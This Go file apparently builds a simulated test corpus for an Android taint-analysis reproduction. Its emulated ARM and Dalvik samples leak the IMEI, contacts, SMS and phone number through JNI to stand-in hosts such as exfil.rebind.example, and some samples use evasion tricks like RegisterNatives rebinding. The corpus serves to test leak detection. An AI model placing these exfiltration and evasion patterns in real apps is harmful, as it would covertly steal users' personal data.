package apps

import (
	"repro/internal/core"
	"repro/internal/dex"
	"repro/internal/taint"
)

// addChecksum gives the class a pure arithmetic helper with branching
// control flow: no sources, sinks, heap access, or JNI crossings in its
// closure. Every benign app carries one, invoked argument-free from run; it
// stays so the corpus apps, and what the benchmark measures on them, do
// not change.
func addChecksum(cb *dex.ClassBuilder) {
	cb.Method("checksum", "I", dex.AccStatic, 2).
		Const(0, 0).
		Const(1, 5).
		Label("loop").
		IfZ(1, dex.Le, "done").
		Bin(dex.Add, 0, 0, 1).
		BinLit(dex.Sub, 1, 1, 1).
		Goto("loop").
		Label("done").
		Return(0).
		Done()
}

// Case1App: the flow TaintDroid already detects (Fig. 3a). Java passes the
// IMEI to a native method that processes it (GetStringUTFChars → malloc →
// memcpy → NewStringUTF) and returns it; Java sends the result out.
func Case1App() *App {
	const cls = "Lcom/ndroid/case1/Main;"
	return &App{
		Name:                 "case1",
		Desc:                 "Java source -> native intermediate -> Java sink (detected by TaintDroid)",
		Case:                 "1",
		EntryClass:           cls,
		EntryMethod:          "run",
		ExpectTag:            taint.IMEI,
		ExpectSink:           "Network.send",
		DetectedByTaintDroid: true,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase1.so", `
; jstring scramble(JNIEnv* env, jclass cls, jstring s)
Java_scramble:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	ADD R6, R0, #1
	MOV R0, R6
	BL malloc
	MOV R7, R0
	MOV R1, R5
	MOV R2, R6
	BL memcpy
	MOV R0, R4
	MOV R1, R7
	BL NewStringUTF
	POP {R4, R5, R6, R7, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("scramble", "LL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "scramble", "LL", 0).
				MoveResult(0).
				ConstString(1, "ad.tracker.example.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "scramble", prog, "Java_scramble")
		},
	}
}

// QQPhoneBookApp reproduces §VI-A / Fig. 6 (Case 1'): one native call carries
// the tainted data into native memory; a later native call with untainted
// parameters builds a URL around it with NewStringUTF, and Java sends it.
// TaintDroid misses this because it does not taint data obtained *from* a
// native method.
func QQPhoneBookApp() *App {
	const cls = "Lcom/tencent/tccsync/LoginUtil;"
	return &App{
		Name:        "qqphonebook",
		Desc:        "QQPhoneBook-style Case 1': stash in native, exfiltrate via later JNI return",
		Case:        "1'",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.SMS | taint.Contacts, // the 0x202 of Fig. 6
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libtccsync.so", `
; int makeLoginRequestPackageMd5(JNIEnv*, jclass, jstring secret)
Java_makeLoginRequestPackageMd5:
	PUSH {R4, R5, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	LDR R0, =secretbuf
	MOV R1, R5
	BL strcpy
	MOV R0, #0
	POP {R4, R5, PC}

; jstring getPostUrl(JNIEnv*, jclass) — no tainted parameters
Java_getPostUrl:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R0, =urlbuf
	LDR R1, =fmt_url
	LDR R2, =secretbuf
	BL sprintf
	MOV R0, R4
	LDR R1, =urlbuf
	BL NewStringUTF
	POP {R4, PC}

fmt_url:
	.asciz "http://sync.3g.qq.com/xpimlogin?sid=%s"
	.align 4
secretbuf:
	.space 256
urlbuf:
	.space 512
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("makeLoginRequestPackageMd5", "IL", dex.AccStatic, 0)
			cb.NativeMethod("getPostUrl", "L", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				// secret = contactName + lastSMS (taint 0x202)
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(0).
				InvokeStatic("Landroid/telephony/SmsManager;", "getLastMessage", "L").
				MoveResult(1).
				InvokeVirtual("Ljava/lang/String;", "concat", "LL", 0, 1).
				MoveResult(0).
				InvokeStatic(cls, "makeLoginRequestPackageMd5", "IL", 0).
				InvokeStatic(cls, "getPostUrl", "L").
				MoveResult(0).
				ConstString(1, "info.3g.qq.com").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 1, 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "makeLoginRequestPackageMd5", prog, "Java_makeLoginRequestPackageMd5"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "getPostUrl", prog, "Java_getPostUrl")
		},
	}
}

// EPhoneApp reproduces §VI-B / Fig. 7 (Case 2): the contact reaches native
// code, which formats a SIP REGISTER and sends it out with sendto — a sink
// TaintDroid never sees.
func EPhoneApp() *App {
	const cls = "Lcom/vnet/asip/general/general;"
	return &App{
		Name:        "ephone",
		Desc:        "ePhone-style Case 2: Java source, native sendto sink",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.Contacts,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libasip.so", `
; int callregister(JNIEnv*, jclass, jstring contact)
Java_callregister:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	LDR R0, =sipbuf
	LDR R1, =fmt_sip
	MOV R2, R5
	BL sprintf
	MOV R6, R0          ; formatted length
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R5, R0
	MOV R0, R5
	LDR R1, =sipbuf
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, #0
	POP {R4, R5, R6, PC}

fmt_sip:
	.asciz "REGISTER sip:softphone.comwave.net From: %s"
	.align 4
host:
	.asciz "softphone.comwave.net"
	.align 4
sipbuf:
	.space 256
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("callregister", "IL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(0).
				InvokeStatic(cls, "callregister", "IL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "callregister", prog, "Java_callregister")
		},
	}
}

// PoCCase2App reproduces §VI-C / Fig. 8: contact id/name/email go to native
// code, which writes them to /sdcard/CONTACTS with fprintf.
func PoCCase2App() *App {
	const cls = "Lcom/ndroid/demos/Demos;"
	return &App{
		Name:        "poc-case2",
		Desc:        "PoC Case 2 (Fig. 8): contacts -> native fprintf to /sdcard/CONTACTS",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.Contacts,
		ExpectSink:  "fprintf",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libdemos.so", `
; boolean recordContact(JNIEnv*, jclass, jstring id, jstring name, jstring email)
Java_recordContact:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	; id chars
	MOV R1, R2
	MOV R7, R3          ; save name jstring
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0          ; id buf
	; name chars
	MOV R0, R4
	MOV R1, R7
	MOV R2, #0
	BL GetStringUTFChars
	MOV R6, R0          ; name buf
	; email chars (4th java arg was in R4? no: args: R2=id R3=name, stack0=email)
	MOV R0, R4
	LDR R1, [SP, #20]   ; email jstring (5 pushed regs above the stack arg)
	MOV R2, #0
	BL GetStringUTFChars
	MOV R7, R0          ; email buf
	; f = fopen("/sdcard/CONTACTS", "w")
	LDR R0, =path
	LDR R1, =mode
	BL fopen
	MOV R4, R0          ; FILE*
	; fprintf(f, "%s %s %s", id, name, email)
	SUB SP, SP, #4
	STR R7, [SP]
	MOV R0, R4
	LDR R1, =fmt_rec
	MOV R2, R5
	MOV R3, R6
	BL fprintf
	ADD SP, SP, #4
	; fclose(f)
	MOV R0, R4
	BL fclose
	MOV R0, #1
	POP {R4, R5, R6, R7, PC}

path:
	.asciz "/sdcard/CONTACTS"
mode:
	.asciz "w"
fmt_rec:
	.asciz "%s %s %s"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("recordContact", "ZLLL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/provider/Contacts;", "getContactId", "L").
				MoveResult(0).
				InvokeStatic("Landroid/provider/Contacts;", "getContactName", "L").
				MoveResult(1).
				InvokeStatic("Landroid/provider/Contacts;", "getContactEmail", "L").
				MoveResult(2).
				InvokeStatic(cls, "recordContact", "ZLLL", 0, 1, 2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "recordContact", prog, "Java_recordContact")
		},
	}
}

// PoCCase3App reproduces §VI-D / Fig. 9: device info crosses into native
// code, which wraps it with NewStringUTF and hands it back to Java through
// CallStaticVoidMethod(nativeCallback); the callback sends it out.
func PoCCase3App() *App {
	const cls = "Lcom/ndroid/demos3/Demos;"
	return &App{
		Name:        "poc-case3",
		Desc:        "PoC Case 3 (Fig. 9): device info -> native -> NewStringUTF -> CallVoidMethod -> Java sink",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.PhoneNumber | taint.IMSI,
		ExpectSink:  "Network.send",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libdemos3.so", `
; void evadeTaintDroid(JNIEnv*, jclass, jstring info)
Java_evadeTaintDroid:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0          ; info chars
	; jstr = NewStringUTF(env, chars)
	MOV R0, R4
	MOV R1, R5
	BL NewStringUTF
	MOV R6, R0          ; new jstring
	; cls = FindClass("com/ndroid/demos3/Demos")
	MOV R0, R4
	LDR R1, =cls_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, cls, "nativeCallback", "(Ljava/lang/String;)V")
	MOV R0, R4
	MOV R1, R5
	LDR R2, =mname
	LDR R3, =msig
	BL GetStaticMethodID
	MOV R7, R0
	; CallStaticVoidMethod(env, cls, mid, jstr)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R7
	MOV R3, R6
	BL CallStaticVoidMethod
	POP {R4, R5, R6, R7, PC}

cls_name:
	.asciz "com/ndroid/demos3/Demos"
mname:
	.asciz "nativeCallback"
msig:
	.asciz "(Ljava/lang/String;)V"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("evadeTaintDroid", "VL", dex.AccStatic, 0)
			cb.Method("nativeCallback", "VL", dex.AccStatic, 1).
				ConstString(0, "leak.example.org").
				InvokeStatic("Landroid/net/Network;", "send", "VLL", 0, 1).
				ReturnVoid().
				Done()
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 2).
				InvokeStatic(cls, "checksum", "I").
				// "...Line1Number = 15555215554 NetworkOperator = 310260..."
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getLine1Number", "L").
				MoveResult(0).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getNetworkOperator", "L").
				MoveResult(1).
				InvokeVirtual("Ljava/lang/String;", "concat", "LL", 0, 1).
				MoveResult(0).
				InvokeStatic(cls, "evadeTaintDroid", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "evadeTaintDroid", prog, "Java_evadeTaintDroid")
		},
	}
}

// Case3PullApp is the pure Case 3 topology (Fig. 3c): the native code itself
// pulls sensitive data out of the Java context (calling the telephony API
// through JNI) and leaks it through a native sink.
func Case3PullApp() *App {
	const cls = "Lcom/ndroid/case3/Main;"
	return &App{
		Name:        "case3-pull",
		Desc:        "Case 3: native pulls IMEI via JNI call into Java, leaks via sendto",
		Case:        "3",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase3.so", `
; void pullAndLeak(JNIEnv*, jclass)
Java_pullAndLeak:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0
	; tmCls = FindClass("android/telephony/TelephonyManager")
	LDR R1, =tm_name
	BL FindClass
	MOV R5, R0
	; mid = GetStaticMethodID(env, tmCls, "getDeviceId", sig)
	MOV R0, R4
	MOV R1, R5
	LDR R2, =getdev
	LDR R3, =sig
	BL GetStaticMethodID
	MOV R6, R0
	; jstr = CallStaticObjectMethod(env, tmCls, mid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL CallStaticObjectMethod
	MOV R7, R0
	; buf = GetStringUTFChars(env, jstr, 0)
	MOV R0, R4
	MOV R1, R7
	MOV R2, #0
	BL GetStringUTFChars
	MOV R6, R0
	; n = strlen(buf)
	BL strlen
	MOV R5, R0
	; sock = socket(2,1,0)
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	; sendto(sock, buf, n, host)
	MOV R1, R6
	MOV R2, R5
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, R7, PC}

tm_name:
	.asciz "android/telephony/TelephonyManager"
getdev:
	.asciz "getDeviceId"
sig:
	.asciz "()Ljava/lang/String;"
host:
	.asciz "collector.example.net"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("pullAndLeak", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 0).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic(cls, "pullAndLeak", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "pullAndLeak", prog, "Java_pullAndLeak")
		},
	}
}

// Case4App: Java stores a tainted *primitive* into a static field; native
// code reads it with GetStaticIntField (Table IV) and leaks it via sendto.
// Only the field-access hooks can recover this taint.
func Case4App() *App {
	const cls = "Lcom/ndroid/case4/Main;"
	return &App{
		Name:        "case4",
		Desc:        "Case 4: native reads tainted static field via JNI, leaks via sendto",
		Case:        "4",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libcase4.so", `
; void readAndLeak(JNIEnv*, jclass self)
Java_readAndLeak:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R5, R1          ; jclass of Main
	; fid = GetStaticFieldID(env, cls, "secret", "I")
	MOV R1, R5
	LDR R2, =fname
	LDR R3, =fsig
	BL GetStaticFieldID
	MOV R6, R0
	; v = GetStaticIntField(env, cls, fid)
	MOV R0, R4
	MOV R1, R5
	MOV R2, R6
	BL GetStaticIntField
	MOV R7, R0          ; tainted int (shadow set by the field hook)
	; sprintf(buf, "%d", v)
	LDR R0, =numbuf
	LDR R1, =fmt_d
	MOV R2, R7
	BL sprintf
	MOV R6, R0          ; length
	; sock = socket(2,1,0)
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	; sendto(sock, numbuf, len, host)
	LDR R1, =numbuf
	MOV R2, R6
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, R7, PC}

fname:
	.asciz "secret"
fsig:
	.asciz "I"
fmt_d:
	.asciz "%d"
host:
	.asciz "field.exfil.example"
	.align 4
numbuf:
	.space 32
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.StaticField("secret", false)
			cb.NativeMethod("readAndLeak", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				// secret = length(IMEI) — a tainted primitive.
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeVirtual("Ljava/lang/String;", "length", "I", 0).
				MoveResult(0).
				Sput(0, cls, "secret").
				InvokeStatic(cls, "readAndLeak", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "readAndLeak", prog, "Java_readAndLeak")
		},
	}
}

// BenignApp exercises the same JNI machinery on untainted data; no analysis
// mode should report a leak (false-positive control).
func BenignApp() *App {
	const cls = "Lcom/ndroid/benign/Main;"
	return &App{
		Name:        "benign",
		Desc:        "benign control: untainted data through the same JNI paths",
		Case:        "benign",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   0,
		ExpectSink:  "",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libbenign.so", `
; void ping(JNIEnv*, jclass, jstring s)
Java_ping:
	PUSH {R4, R5, R6, LR}
	MOV R4, R0
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	POP {R4, R5, R6, PC}

host:
	.asciz "telemetry.example.com"
	.align 4
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("ping", "VL", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "checksum", "I").
				ConstString(0, "heartbeat-ok").
				InvokeStatic(cls, "ping", "VL", 0).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "ping", prog, "Java_ping")
		},
	}
}

// RebindApp attacks per-method instrumentation state with RegisterNatives
// re-registration: `process` starts bound to a benign identity implementation
// and is called in a loop, so the analyzer's JNI-entry binding for it is
// reused. A later native call then re-registers `process` to a second
// implementation that leaks its argument through sendto. A sound analyzer
// must rebind on the next crossing (the entry line, the SourcePolicy and the
// entry hook all at the new address) and catch the leak there; an unsound
// one would keep applying the policy at the benign implementation's address.
func RebindApp() *App {
	const cls = "Lcom/hostile/rebind/Main;"
	return &App{
		Name:        "rebind",
		Desc:        "RegisterNatives re-registration: benign impl runs hot, rebind swaps in a leaking impl",
		Case:        "2",
		EntryClass:  cls,
		EntryMethod: "run",
		ExpectTag:   taint.IMEI,
		ExpectSink:  "sendto",
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("librebind.so", `
; jstring process(JNIEnv*, jclass, jstring) — impl A: identity, no taint ops
Java_processA:
	PUSH {R4, LR}
	MOV R0, R2
	POP {R4, PC}

; jstring process(JNIEnv*, jclass, jstring) — impl B: leak via sendto
Java_processB:
	PUSH {R4, R5, R6, R7, LR}
	MOV R4, R0          ; env
	MOV R7, R2          ; jstring
	MOV R1, R2
	MOV R2, #0
	BL GetStringUTFChars
	MOV R5, R0
	BL strlen
	MOV R6, R0
	MOV R0, #2
	MOV R1, #1
	MOV R2, #0
	BL socket
	MOV R1, R5
	MOV R2, R6
	LDR R3, =host
	BL sendto
	MOV R0, R7
	POP {R4, R5, R6, R7, PC}

; void rebind(JNIEnv*, jclass) — RegisterNatives(process -> Java_processB)
Java_rebind:
	PUSH {R4, LR}
	MOV R4, R0
	LDR R1, =cls_name
	BL FindClass
	MOV R1, R0
	MOV R0, R4
	LDR R2, =njm
	MOV R3, #1
	BL RegisterNatives
	POP {R4, PC}

cls_name:
	.asciz "com/hostile/rebind/Main"
pname:
	.asciz "process"
psig:
	.asciz "(Ljava/lang/String;)Ljava/lang/String;"
host:
	.asciz "exfil.rebind.example"
	.align 4
njm:
	.word pname, psig, Java_processB
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("process", "LL", dex.AccStatic, 0)
			cb.NativeMethod("rebind", "V", dex.AccStatic, 0)
			addChecksum(cb)
			cb.Method("run", "V", dex.AccStatic, 3).
				InvokeStatic(cls, "checksum", "I").
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				// Hot loop: five crossings of the benign impl.
				Const(1, 5).
				Label("loop").
				IfZ(1, dex.Le, "swap").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				BinLit(dex.Sub, 1, 1, 1).
				Goto("loop").
				Label("swap").
				InvokeStatic(cls, "rebind", "V").
				InvokeStatic(cls, "process", "LL", 0).
				MoveResult(2).
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			if err := sys.VM.BindNative(cls, "process", prog, "Java_processA"); err != nil {
				return err
			}
			return sys.VM.BindNative(cls, "rebind", prog, "Java_rebind")
		},
	}
}

// --- hostile corpus ----------------------------------------------------------
//
// The market study's operating assumption is that native code is adversarial.
// These three apps each attack a different layer: the first never terminates,
// the second dereferences a wild pointer, the third ships structurally broken
// bytecode. A correct analyzer reports Timeout/Fault verdicts with the
// partial flow log gathered so far; it never hangs or crashes.

// HostileSpinApp enters a native infinite loop: `while(1);` after the JNI
// crossing. The deterministic instruction budget is the only thing that can
// stop it, so its expected verdict is Timeout.
func HostileSpinApp() *App {
	const cls = "Lcom/hostile/spin/Main;"
	return &App{
		Name:          "hostile-spin",
		Desc:          "hostile: native infinite loop (watchdog budget must fire)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictTimeout,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libspin.so", `
; void spin(JNIEnv*, jclass) — never returns
Java_spin:
	MOV R0, #0
spin_loop:
	ADD R0, R0, #1
	B spin_loop
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("spin", "V", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "spin", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "spin", prog, "Java_spin")
		},
	}
}

// HostileWildApp stores through a NULL pointer from native code. The guard
// window around the mapped guest layout turns the store into an
// UnmappedAccess fault raised by the ARM layer, which walks the whole
// degradation ladder (the store faults identically under every mode that
// executes native code) and ends in a Fault verdict.
func HostileWildApp() *App {
	const cls = "Lcom/hostile/wild/Main;"
	return &App{
		Name:          "hostile-wild",
		Desc:          "hostile: native NULL-pointer store (UnmappedAccess fault)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictFault,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libwild.so", `
; void smash(JNIEnv*, jclass) — *(int*)0 = 42
Java_smash:
	PUSH {R4, LR}
	MOV R0, #0
	MOV R1, #42
	STR R1, [R0]
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("smash", "V", dex.AccStatic, 0)
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic("Landroid/telephony/TelephonyManager;", "getDeviceId", "L").
				MoveResult(0).
				InvokeStatic(cls, "smash", "V").
				ReturnVoid().
				Done()
			sys.VM.RegisterClass(cb.Build())
			return sys.VM.BindNative(cls, "smash", prog, "Java_smash")
		},
	}
}

// HostileDexApp registers a class whose "broken" method body has been
// truncated after building — its bytecode falls off the end of the
// instruction stream, the static shape dex.Method.Validate rejects. The
// entry method does one observable JNI call first (so a partial flow log
// exists), then invokes the broken method; execution reaches the truncation
// and raises MalformedDex. A dvm/dex-layer fault is a property of the app,
// not of the instrumentation, so no mode degradation is attempted.
func HostileDexApp() *App {
	const cls = "Lcom/hostile/dex/Main;"
	return &App{
		Name:          "hostile-dex",
		Desc:          "hostile: truncated method body (MalformedDex fault)",
		Case:          "hostile",
		EntryClass:    cls,
		EntryMethod:   "run",
		Hostile:       true,
		ExpectVerdict: core.VerdictFault,
		install: func(sys *core.System) error {
			prog, err := sys.VM.LoadNativeLib("libtrunc.so", `
; void touch(JNIEnv*, jclass)
Java_touch:
	PUSH {R4, LR}
	POP {R4, PC}
`)
			if err != nil {
				return err
			}
			cb := dex.NewClass(cls)
			cb.NativeMethod("touch", "V", dex.AccStatic, 0)
			cb.Method("broken", "V", dex.AccStatic, 1).
				ConstString(0, "never-reached").
				ReturnVoid().
				Done()
			cb.Method("run", "V", dex.AccStatic, 1).
				InvokeStatic(cls, "touch", "V").
				InvokeStatic(cls, "broken", "V").
				ReturnVoid().
				Done()
			built := cb.Build()
			// Truncate the trailing return: the method now falls off the end
			// of its instruction stream, like a bit-rotted or deliberately
			// malformed dex file.
			if m, ok := built.Method("broken"); ok {
				m.Insns = m.Insns[:len(m.Insns)-1]
			}
			sys.VM.RegisterClass(built)
			return sys.VM.BindNative(cls, "touch", prog, "Java_touch")
		},
	}
}
